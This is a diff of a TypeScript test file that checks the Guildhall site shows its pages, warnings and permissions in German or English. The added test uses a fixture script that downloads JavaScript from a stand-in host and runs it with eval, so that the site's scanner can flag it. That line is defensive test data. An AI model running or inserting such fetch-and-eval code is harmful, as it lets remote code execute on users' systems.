@@ -1,6 +1,7 @@
 // The language of pages: chosen by the account, the switch in the footer or the browser, and never that of another reader.
 import assert from 'node:assert/strict'
 import { submit } from './form.ts'
+import { automationFile } from './library.ts'
 import { newBrowser } from './visitors.ts'
 import { onEveryEngine, type Person } from './world.ts'
 
@@ -100,11 +101,12 @@ onEveryEngine('the language of the site', (it) => {
     assert.match(await posts.text(), /<title>Guildhall: Posts</)
   })
 
-  it('is said to the script by the page, and a document in English says that it is', async ({ anonymous }) => {
+  it('is said to the script by the page, and is that of guides', async ({ anonymous }) => {
     const page = await (await asked(anonymous, '/search', 'de')).text()
     assert.match(page, /data-words="[^"]*Das Netz antwortet nicht/)
     const guide = await (await asked(anonymous, '/docs', 'de')).text()
-    assert.match(guide, /Diese Seite gibt es nur auf Englisch\.<\/p>.*<article class="stack" lang="en">/s)
+    assert.match(guide, /<article class="stack">.*<h2 id="lesen">Lesen<\/h2>/s)
+    assert.match(await (await asked(anonymous, '/docs', 'en')).text(), /<h2 id="read">Read<\/h2>/)
     const refused = await anonymous.request('/refusal', {
       ...{
         method: 'POST',
@@ -126,5 +128,34 @@ onEveryEngine('the language of the site', (it) => {
     const english = await submit(anonymous, '/sign-in?/password', fields)
     assert.match(await english.text(), /Wrong email address or password/)
     await assert.rejects(anonymous.accounts.signIn(fields), /Wrong email address or password/)
+    const unknown = '/api/auth/oauth2/authorize?client_id=nobody'
+    assert.match(await (await asked(anonymous, unknown, 'de')).text(), /<p>Guildhall kennt die App nicht, [^<]*hat\.</)
+    assert.match(
+      await (await asked(anonymous, unknown)).text(),
+      /<p>The app that sent you here is not known to Guildhall\.</,
+    )
+  })
+
+  it('is that of what the scan finds, and of permissions for all of a type', async ({ alice, anonymous }) => {
+    const code = 'eval(await (await fetch("https://berths.example/x.js")).text())'
+    const script = [{ name: 'scripts/list.js', data: code }]
+    const { id, slug } = await alice.library.publish({
+      kind: 'automation',
+      visibility: 'public',
+      file: automationFile({ version: '1.0.0' }, script),
+    })
+    await alice.library.publishVersion({
+      id,
+      file: automationFile(
+        { version: '1.1.0', permissions: { steps: ['navigate'], scripts: ['list'], downloads: true } },
+        script,
+      ),
+    })
+    const path = `/library/automations/${slug}`
+    assert.match(await (await asked(anonymous, path, 'de')).text(), /was geladen wird, wird als JavaScript ausgeführt/)
+    assert.match(await (await asked(anonymous, path)).text(), /what is fetched is run as JavaScript/)
+    const compared = await (await asked(anonymous, `${path}/compare?from=1.0.0&to=1.1.0`, 'de')).text()
+    assert.match(compared, /<code>jeder Download</)
+    assert.doesNotMatch(compared, /any download/)
   })
 })
